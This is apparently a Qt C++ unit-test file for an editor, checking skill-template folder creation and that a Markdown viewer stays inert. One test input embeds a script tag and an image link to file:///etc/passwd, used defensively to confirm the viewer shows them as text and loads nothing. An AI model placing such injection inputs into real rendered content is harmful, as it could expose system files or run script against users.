    QTest::addColumn<int>("language");
    QTest::newRow("python") << static_cast<int>(Language::Python);
    QTest::newRow("node") << static_cast<int>(Language::Node);
    QTest::newRow("bash") << static_cast<int>(Language::Bash);
}

void EditorPartsTest::newSkillsAreCleanAndWhole()
{
    QFETCH(int, language);
    QTemporaryDir directory;
    const SkillTemplate skill{static_cast<Language>(language), u"my-skill"_s,
                              u"Does \"this\": and that. Use it when that is wanted."_s};
    const QString target = directory.filePath(u"deep/er/my-skill"_s);
    const auto files = makeSkillFolder(skill, target);
    QVERIFY2(files, qPrintable(files ? QString() : files.error().message));
    QVERIFY(files->contains(u"SKILL.md"_s));
    const LintReport report = lintSkill(target);
    QVERIFY2(report.findings.isEmpty(),
             qPrintable(report.findings.isEmpty() ? QString()
                                                  : toText(report.findings.constFirst())));
    QCOMPARE(report.manifest->description, skill.description);
    QVERIFY(!makeSkillFolder(skill, target)); // not over what is there
    QVERIFY(!makeSkillFolder({skill.language, u"My Skill"_s, {}}, directory.filePath(u"x"_s)));
}

void EditorPartsTest::markdownLoadsNothing()
{
    const auto theme = Theme::load(u"dark"_s);
    QVERIFY(theme);
    MarkdownView view;
    view.applyTheme(*theme);
    view.setMarkdownText(
        u"# Head\n\n<script>x</script> ![i](file:///etc/passwd) "
        "[link](https://x.example)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx = 1\n```\n"_s);
    QVERIFY(view.toPlainText().contains(u"<script>"_s)); // shown as text
    QVERIFY(!view.openLinks());
    view.setMarkdownText(QString(MarkdownView::mostShown + 10, u'x'));
    QVERIFY(view.toPlainText().size() < MarkdownView::mostShown + 200);
}

QTEST_MAIN(EditorPartsTest)
#include "test_editor_parts.moc"
